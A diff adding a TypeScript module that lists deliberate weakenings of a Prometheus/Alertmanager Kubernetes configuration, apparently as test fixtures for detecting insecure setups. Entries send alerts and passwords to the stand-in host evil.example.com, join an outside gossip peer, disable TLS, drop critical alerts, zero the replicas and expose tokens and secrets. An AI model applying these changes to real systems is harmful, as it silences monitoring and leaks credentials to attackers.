@@ -1,0 +1,53 @@
+/** Changes of the way of alerts to people. */
+import { all, CONTAINER, POD, set, text, type Weakenings } from "../draft";
+
+const ALERTMANAGER = "StatefulSet/alertmanager";
+const CONFIG = "ConfigMap/alertmanager-config";
+
+const config = (path: string, value: unknown) => text(CONFIG, "alertmanager.yml", path, value);
+const sent = (path: string, value: unknown) => text("ConfigMap/metrics-config", "prometheus.yml", path, value);
+
+export const ALERTMANAGER_WEAKENINGS: Weakenings = {
+  "alerts-elsewhere": [
+    "alerts, and the password, go to somebody else",
+    sent("alerting/alertmanagers/0/static_configs/0/targets/0", "evil.example.com:9093"),
+  ],
+  "alerts-unverified": [
+    "anybody can take the alerts",
+    sent("alerting/alertmanagers/0/tls_config/insecure_skip_verify", true),
+  ],
+  "alerts-plain": ["the same, and the password", sent("alerting/alertmanagers/0/scheme", "http")],
+  "alerts-dropped": [
+    "alerts are dropped before they are sent",
+    sent("alerting/alert_relabel_configs/+", { source_labels: ["severity"], regex: "critical", action: "drop" }),
+  ],
+  "no-replica": ["nobody is told", set(ALERTMANAGER, "spec/replicas", 0)],
+  "default-to-nobody": ["alerts that no route matches are told to nobody", config("route/receiver", "null")],
+  "receivers-removed": ["the same", config("receivers", [{ name: "telemetry" }])],
+  "secret-in-config": [
+    "a secret in a ConfigMap",
+    config("receivers/0", { name: "telemetry", slack_configs: [{ send_resolved: true, api_url: "https://hooks" }] }),
+  ],
+  "mail-in-plain-text": ["mail without encryption", config("receivers/0/email_configs/0/require_tls", false)],
+  "muted-by-time": ["alerts are muted at night", config("route/mute_time_intervals", ["night"])],
+  "no-web-config": [
+    "a page without a login, where anybody silences alerts",
+    set(ALERTMANAGER, `${CONTAINER}/args/3`, "--log.level=info"),
+  ],
+  "open-gossip": [
+    "anybody may join, and silence alerts",
+    set(ALERTMANAGER, `${CONTAINER}/args/+`, "--cluster.peer=alertmanager.evil.svc:9094"),
+  ],
+  "reload-scripts": [
+    "a template of somebody's",
+    set(ALERTMANAGER, `${CONTAINER}/args/0`, "--config.file=/alertmanager/x.yml"),
+  ],
+  "alertmanager-token": ["a token of the API server", set(ALERTMANAGER, `${POD}/automountServiceAccountToken`, true)],
+  "web-secret-keyless": [
+    "without TLS and without a login",
+    all(
+      set("Secret/alertmanager-web", "stringData/web.yml", undefined),
+      set("Secret/alertmanager-web", "stringData/tls.key", undefined),
+    ),
+  ],
+};
